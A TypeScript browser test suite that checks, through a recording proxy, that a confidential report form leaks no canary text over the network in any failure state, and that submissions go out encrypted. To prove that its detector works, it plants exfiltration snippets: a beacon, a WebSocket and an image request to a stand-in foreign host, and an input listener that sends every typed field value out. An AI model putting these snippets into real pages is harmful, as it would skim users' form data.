import type { Page } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { alertAnswers, fullAnswers } from '../../report/answers.ts';
import { fileSchema } from '../../report/evidence.ts';
import { eventually } from '../eventually.ts';
import { type BrowserKind, engineOf, type Started, startBrowser } from '../journeys/browser.ts';
import { sendFiles } from '../journeys/choosing.ts';
import { send } from '../journeys/filling.ts';
import { siteOfWorker } from '../journeys/site-of-worker.ts';
import { fieldsOf } from '../report/schema-fields.ts';
import { canaries, chooseCanaries, chosen, fillWithCanaries, pressEverything } from './canaries.ts';
import { contentsOf, findCanary, findIn } from './find-canary.ts';
import { failing, meets, script, states } from './page-states.ts';
import { type Fate, ofTheBrowser, RecordingProxy } from './recording-proxy.ts';

const site = siteOfWorker();
const needles = [...canaries, ...chosen];

/** The failures of what seals and sends files. */
const failingFiles: readonly (readonly [name: string, fatesOf: (path: string) => Fate])[] = [
  ['script of the list: abort', meets(script('evidence'), 'abort')],
  ['script that seals them: abort', meets(script('files'), 'abort')],
  ...(['hold', 'error', 'abort'] as const).map(
    (fate) => [`place of uploads: ${fate}`, meets(/\/uploads/, fate)] as const,
  ),
];
const failingFilesIn: Readonly<Record<BrowserKind, typeof failingFiles>> = {
  chromium: failingFiles,
  firefox: failingFiles.slice(-1),
  'hardened firefox': [],
};

/** What a page says of a file without being told. */
const told = /^(name|type|size|sha256Original|hiddenData)$/;

/** Why WebAssembly would not start in the worker: its response without the word that allows it. */
const withoutWasm = meets(script('seal'), { change: (body) => `delete self.WebAssembly;${body}` });

/** One failure for each state that a page can be left in; where everything works, it seals by the engine of the browser. */
const oneOfEachState: Readonly<Record<BrowserKind, readonly string[]>> = {
  chromium: [
    'report script: abort',
    'keyring: hold',
    'keyring: abort',
    'libsodium: abort',
    'exit script and country lists: abort',
  ],
  firefox: ['report script: abort', 'keyring: abort', 'libsodium: abort'],
  // It has no libsodium: without the light engine it can send nothing.
  'hardened firefox': ['light engine: abort'],
};

/**
 * In one browser: fills every field with canaries in each state of the page, and looks for them on every line out. Which
 * failure leads to which state is the page's own doing, and shown in Chromium.
 */
export function noCanaryLeaves(kind: BrowserKind): void {
  let proxy: RecordingProxy;
  let started: Started;

  function startAll(isWhole: boolean): void {
    beforeAll(async () => {
      proxy = new RecordingProxy(site.origin);
      started = await startBrowser(kind, { proxyPort: await proxy.listen(), isUnwatched: true, isWhole });
    });
    afterAll(async () => {
      await started.end();
      await proxy.close();
    });
  }

  /**
   * Opens the form under a fate, fills it, presses everything, and gives the canaries that left.
   * @param options.isWorking whether the page becomes ready all the same.
   */
  async function leaksUnder(
    fatesOf: (path: string) => Fate,
    act: (page: Page, filled: readonly string[]) => Promise<void> = pressEverything,
    { path = '/en/report', isWorking = false } = {},
  ): Promise<string[]> {
    proxy.begin(fatesOf);
    const page = await started.newPage();
    page.on('dialog', (dialog) => void dialog.accept().catch(() => {}));
    try {
      await page.goto(`${site.origin}${path}`, { waitUntil: 'domcontentloaded', timeout: 3000 }).catch(() => {});
      await page.waitForSelector('#report');
      // The page gets a moment to become ready or to give up; what it may not do is leak in either case.
      if (isWorking) await page.waitForSelector('html[data-ready]');
      else await page.waitForSelector('html[data-ready], html[data-failed]', { timeout: 2500 }).catch(() => {});
      await act(page, await fillWithCanaries(page));
      await new Promise((resolve) => setTimeout(resolve, 300));
      proxy.release();
      await new Promise((resolve) => setTimeout(resolve, 300));
      return leaks(path);
    } finally {
      await page.close({ runBeforeUnload: false });
    }
  }

  function leaks(path: string): string[] {
    const bytes = proxy.recorded();
    expect(bytes.includes(`${path} HTTP/1.1`)).toBe(true);
    const contents = contentsOf(bytes);
    return [
      ...needles.flatMap((needle) => findIn(contents, needle).map((look) => `${needle} as ${look}`)),
      ...[...proxy.foreignHosts].filter((host) => !ofTheBrowser.test(host)),
    ];
  }

  // All that a browser does by itself, too.
  describe('where everything works', () => {
    startAll(true);

    it('catches a canary by each of six ways out', async () => {
      const word = canaries[0];
      const ways: readonly [string, string][] = [
        [
          'worker fetch',
          `new Worker(URL.createObjectURL(new Blob(["fetch('${site.origin}/w', { method: 'POST', body: '${word}' })"])))`,
        ],
        ['beacon', `navigator.sendBeacon('/b', '${word}')`],
        ['address', `fetch('/u?${word}')`],
        ['header', `fetch('/h', { headers: { 'X-Any': '${word}' } })`],
        ['WebSocket', `new WebSocket('ws://foreign.example/${word}')`],
        ['foreign image', `new Image().src = 'http://foreign.example/${word}.png'`],
      ];
      for (const [way, code] of ways) {
        proxy.begin((path) => (path === '/control' ? { body: `<!doctype html><script>${code}</script>` } : 'pass'));
        const page = await started.newPage();
        await page.goto(`${site.origin}/control`);
        await eventually(() => expect([way, findCanary(proxy.recorded(), word).length > 0]).toEqual([way, true]));
        await page.close();
      }
    });

    it.each([
      ['/en/report', fullAnswers],
      ['/en/alert', alertAnswers],
    ] as const)('sends every field of %s without a readable word', async (path, schema) => {
      const leaked = await leaksUnder(
        () => 'pass',
        async (page, filled) => {
          expect(await page.$eval('html', (html) => html.dataset.engine)).toBe(engineOf[kind]);
          const fields = filled.map((name) =>
            name.replace(/\.\d+(?=\.)/g, '.*').replace(/\.(year|month|day|approx|asWritten)$/, ''),
          );
          for (const { field } of fieldsOf(schema)) expect(fields).toContain(field);
          await send(page);
          await page.waitForSelector('#issued:not([hidden])');
          await pressEverything(page);
        },
        { path, isWorking: true },
      );
      expect(proxy.recorded().includes('/envelopes HTTP/1.1')).toBe(true);
      expect(proxy.recorded().includes('age-encryption.org/v1')).toBe(true);
      expect(leaked).toEqual([]);
    });

    it('sends files, their names and all that is said of them without a readable word', async () => {
      const leaked = await leaksUnder(
        () => 'pass',
        async (page) => {
          await send(page);
          await page.waitForSelector('#evidence:not([hidden])');
          const filled = await chooseCanaries(page);
          const fields = filled.map((name) =>
            name.replace(/^files\.\d+\./, '').replace(/\.(year|month|day|approx|asWritten)$/, ''),
          );
          for (const { field } of fieldsOf(fileSchema)) if (!told.test(field)) expect(fields).toContain(field);
          await sendFiles(page);
        },
        { path: '/en/alert', isWorking: true },
      );
      for (const path of ['/envelopes HTTP/1.1', '/uploads HTTP/1.1', '/uploads/'])
        expect([path, proxy.recorded().includes(path)]).toEqual([path, true]);
      expect(leaked).toEqual([]);
    });
  });

  // What the page does then, in any window.
  describe('where something fails', () => {
    startAll(false);

    it.each(failingFilesIn[kind])('leaks nothing of files with their %s', async (_what, fatesOf) => {
      const leaked = await leaksUnder(
        fatesOf,
        async (page) => {
          await send(page);
          await page.waitForSelector('#issued:not([hidden])');
          await page.waitForSelector('#evidence:not([hidden])', { timeout: 2500 }).catch(() => {});
          const isThere = await page.$eval('#evidence', (section) => section.checkVisibility());
          if (isThere) await chooseCanaries(page);
          await pressEverything(page);
        },
        { path: '/en/alert', isWorking: true },
      );
      expect(leaked).toEqual([]);
    });

    const planted = failing.filter(([what]) => oneOfEachState[kind].includes(what));
    it.each(planted)('leaks nothing with %s', async (_what, _state, fatesOf) => {
      expect(await leaksUnder(fatesOf)).toEqual([]);
    });

    if (kind === 'chromium') {
      it.each(failing)('with %s, the page is %s', async (_what, state, fatesOf) => {
        proxy.begin(fatesOf);
        const page = await started.newPage();
        await page.goto(`${site.origin}/en/report`, { waitUntil: 'domcontentloaded', timeout: 3000 }).catch(() => {});
        await page.waitForSelector('#report');
        const stateNow = () =>
          page.$eval('html', ({ dataset: { said: _, ...rest } }) => rest as Readonly<Record<string, string>>);
        await eventually(async () => expect(await stateNow()).toEqual(states[state]));
        // Whether it stays so, where something is still to come.
        await new Promise((resolve) => setTimeout(resolve, 300));
        expect(await stateNow()).toEqual(states[state]);
        proxy.release();
        await page.close({ runBeforeUnload: false });
      });

      it('has canaries planted in each of these states', () => {
        expect(new Set(planted.map(([, state]) => state))).toEqual(new Set(Object.keys(states)));
        expect(planted).toHaveLength(oneOfEachState[kind].length);
      });
    }

    it('seals with the light engine where WebAssembly does not start, and leaks nothing', async () => {
      const leaked = await leaksUnder(
        withoutWasm,
        async (page) => {
          expect(await page.$eval('html', (html) => html.dataset.engine)).toBe('light');
          await send(page);
          await page.waitForSelector('#issued:not([hidden])');
        },
        { isWorking: true },
      );
      expect(leaked).toEqual([]);
    });

    const noScript = meets(script('report'), 'abort');
    const page =
      (change: (html: string) => string) =>
      (path: string): Fate =>
        path === '/en/report' ? { change } : noScript(path);
    const slot = '<div id="send"></div>';
    const dialog = '<form id="report" method="dialog"';
    /** The page's HTML with a submit button where the script puts its own. */
    const withButton = (html: string, attributes = ''): string =>
      html.replace(slot, `<div id="send"><button type="submit"${attributes}>Send</button></div>`);

    it('has what the changed pages below change', async () => {
      const html = await (await fetch(`${site.origin}/en/report`)).text();
      expect(html.split(slot)).toHaveLength(2);
      expect(html.split(dialog)).toHaveLength(2);
    });

    it('leaks nothing with a button that submits, since its form is a dialog', async () => {
      expect(await leaksUnder(page((html) => withButton(html)))).toEqual([]);
    });

    const leaky: typeof failingFiles = [
      ['its button posts', page((html) => withButton(html, ' formmethod="post" formaction="/en/report"'))],
      [
        'its button submits and its form is no dialog',
        page((html) => withButton(html).replace(dialog, '<form id="report"')),
      ],
      [
        'a field is copied into an address',
        meets(script('report'), {
          change: (code) =>
            `${code};document.addEventListener('input',(e)=>fetch('/assets/x?'+encodeURIComponent(e.target.value)))`,
        }),
      ],
    ];
    // That a leak is found at all depends on no browser; one in each shows that it was looked at.
    it.each(kind === 'chromium' ? leaky : leaky.slice(0, 1))(
      'finds the leak of a page that is changed so that %s',
      async (_what, fatesOf) => {
        const leaked = await leaksUnder(fatesOf, async (page) => {
          await pressEverything(page);
          await eventually(() => expect(leaks('/en/report')).not.toEqual([]));
        });
        expect(leaked).not.toEqual([]);
      },
    );
  });
}
